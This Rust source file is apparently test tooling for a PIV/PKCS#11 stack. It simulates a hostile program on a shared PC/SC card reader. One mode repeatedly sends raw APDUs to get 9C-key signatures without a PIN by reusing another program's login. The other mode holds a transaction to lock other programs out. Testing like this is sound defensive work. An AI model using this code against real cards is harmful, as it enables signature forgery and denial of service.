//! `tessera-pcsc-intruder`: a program that uses a card in a PC/SC reader the way a hostile or
//! careless one would — raw APDUs, no transaction — to show what another program's PKCS#11
//! module leaves open to it. Test tooling.

use std::ffi::CString;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::{Parser, ValueEnum};
use tessera_piv::apdu::{Command, Response, StatusWord};

/// Uses a card without PC/SC transactions, as a hostile program would.
///
/// `steal-9c`: over and over, asks whether the PIN is verified (VERIFY without data, which
/// leaves a PIN-always freshness in place) and sends its own GENERAL AUTHENTICATE with the
/// 9C signature key. A signature it gets is one it had no PIN for: it used the
/// context-specific login another program made. Prints `STOLEN n of m` at the end.
///
/// `hold`: takes the card in a PC/SC transaction and keeps it for --seconds; prints
/// `HOLDING` once it has it.
#[derive(Debug, Parser)]
#[command(version, about, long_about)]
struct Args {
    /// The reader.
    #[arg(long)]
    reader: String,
    #[arg(long, value_enum, default_value_t = Mode::Steal9c)]
    mode: Mode,
    /// How long to keep trying, in seconds.
    #[arg(long, default_value_t = 10)]
    seconds: u64,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Mode {
    /// Try to sign with 9C without a PIN, over and over.
    Steal9c,
    /// Hold a PC/SC transaction for --seconds (a program that locks everyone else out).
    Hold,
}

fn transmit(card: &pcsc::Card, apdu: &[u8]) -> Result<Response> {
    let mut buf = vec![0u8; pcsc::MAX_BUFFER_SIZE_EXTENDED];
    let raw = card.transmit(apdu, &mut buf)?;
    Response::parse(raw).map_err(|_| anyhow::anyhow!("answer without status word"))
}

fn main() -> Result<()> {
    let args = Args::parse();
    let ctx = pcsc::Context::establish(pcsc::Scope::User).context("pcscd")?;
    let reader = CString::new(args.reader.clone())?;
    let mut card = ctx
        .connect(&reader, pcsc::ShareMode::Shared, pcsc::Protocols::ANY)
        .with_context(|| format!("connecting to {}", args.reader))?;
    if args.mode == Mode::Hold {
        let tx = card.transaction().context("SCardBeginTransaction")?;
        println!("HOLDING");
        std::io::Write::flush(&mut std::io::stdout())?;
        std::thread::sleep(Duration::from_secs(args.seconds));
        drop(tx);
        return card
            .disconnect(pcsc::Disposition::LeaveCard)
            .map_err(|(_, e)| anyhow::anyhow!("disconnecting: {e}"));
    }
    // An RSA-2048 block below any modulus: 00 01 FF… 00 and a fake digest.
    let mut block = vec![0xFFu8; 256];
    block[0] = 0x00;
    block[1] = 0x01;
    block[223] = 0x00;
    let mut inner = vec![0x82, 0x00, 0x81, 0x82, 0x01, 0x00];
    inner.extend_from_slice(&block);
    let mut data = vec![0x7C, 0x82, 0x01, 0x06];
    data.extend_from_slice(&inner);
    let mut ga = Command::new(0, 0x87, 0x07, 0x9C)
        .with_data(data)
        .with_le(65536);
    ga.extended = true;
    let ga = ga.to_bytes();
    let status = Command::new(0, 0x20, 0x00, 0x80).to_bytes();
    let (mut tries, mut stolen) = (0u64, 0u64);
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(args.seconds) {
        // A busy or reset card is not the point: keep trying.
        let _ = transmit(&card, &status);
        tries += 1;
        if let Ok(r) = transmit(&card, &ga) {
            if r.sw == StatusWord::SUCCESS {
                stolen += 1;
            }
        }
    }
    println!("STOLEN {stolen} of {tries}");
    // Leave the card as it is (the crate's drop would reset it for everyone).
    card.disconnect(pcsc::Disposition::LeaveCard)
        .map_err(|(_, e)| anyhow::anyhow!("disconnecting: {e}"))
}
